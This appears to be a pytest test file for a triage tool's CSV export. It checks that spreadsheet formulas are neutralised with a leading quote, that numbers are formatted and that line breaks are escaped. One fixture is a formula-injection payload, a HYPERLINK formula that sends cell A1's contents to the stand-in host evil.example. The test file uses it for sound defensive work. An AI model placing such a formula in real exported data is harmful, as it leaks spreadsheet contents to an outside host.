"""Spreadsheet cells: formulas neutralised (OWASP), one record a line, numbers without trailing zeros."""

from __future__ import annotations

import csv

import pytest

from conftest import make_mention
from triage.cli import main
from triage.db.store import open_store
from triage.records import SentimentScores
from triage.tables.cells import format_number, neutralise, one_line, text_cell

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.mark.parametrize("text", [HYPERLINK, "+39 333", "-1", "@LumoraHelp my router", "\tx", "\rx"])
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_quote(text):
    assert neutralise(text) == "'" + text


def test_other_text_and_numbers_are_left_as_they_are():
    assert neutralise("my router =broken") == "my router =broken"
    assert (text_cell(-1.5), text_cell(691.6), text_cell(3), text_cell(None)) == ("-1.5", "691.6", "3", "")
    assert (format_number(0.83234567), format_number(2.0), format_number(-0.00001)) == ("0.8323", "2", "0")


def test_line_breaks_are_written_as_backslash_n():
    assert one_line("line one\r\nline two\nthree\\") == "line one\\nline two\\nthree\\\\"


def test_export_unanswered_neutralises_post_text_and_keeps_one_record_a_line(tmp_path, capsys):
    url = f"sqlite:///{tmp_path / 'e.db'}"
    store = open_store(url)
    posts = [make_mention("1", HYPERLINK), make_mention("2", "@LumoraHelp down\nsince\nmorning", handle="b"),
             make_mention("3", "+1 broken again", handle="c")]
    ids = store.upsert_mentions(posts).inserted
    store.save_classifications({i: (SentimentScores(0.8, 0.1, 0.1), "en") for i in ids}, "fake")
    store.save_intents({i: ("complaint", None) for i in ids})
    store.dispose()
    output = tmp_path / "u.csv"
    assert main(["export", "--unanswered", "--output", str(output), "--db", url]) == 0
    text = output.read_text(encoding="utf-8")
    assert len(text.splitlines()) == 4  # header and three records
    rows = list(csv.DictReader(text.splitlines()))
    assert {r["text"] for r in rows} == {"'" + HYPERLINK, "'@LumoraHelp down\\nsince\\nmorning", "'+1 broken again"}
    assert all("." not in r["age_hours"] or len(r["age_hours"].split(".")[1]) == 1 for r in rows)  # "1", "691.6"


def test_the_dashboard_download_keeps_the_pages_channel_filter(store):
    from triage.db.reporting import MentionFilter
    from triage.queue.reports import unanswered_csv

    posts = [make_mention("1", "down", channel="mastodon"), make_mention("2", "@LumoraHelp down", handle="b")]
    ids = store.upsert_mentions(posts).inserted
    store.save_classifications({i: (SentimentScores(0.8, 0.1, 0.1), "en") for i in ids}, "fake")
    store.save_intents({i: ("complaint", None) for i in ids})
    rows = list(csv.DictReader(unanswered_csv(store, where=MentionFilter(channels=("mastodon",))).splitlines()))
    assert [r["channel"] for r in rows] == ["mastodon"]
    everything = list(csv.DictReader(unanswered_csv(store).splitlines()))
    assert {r["text"] for r in everything} == {"down", "'@LumoraHelp down"}
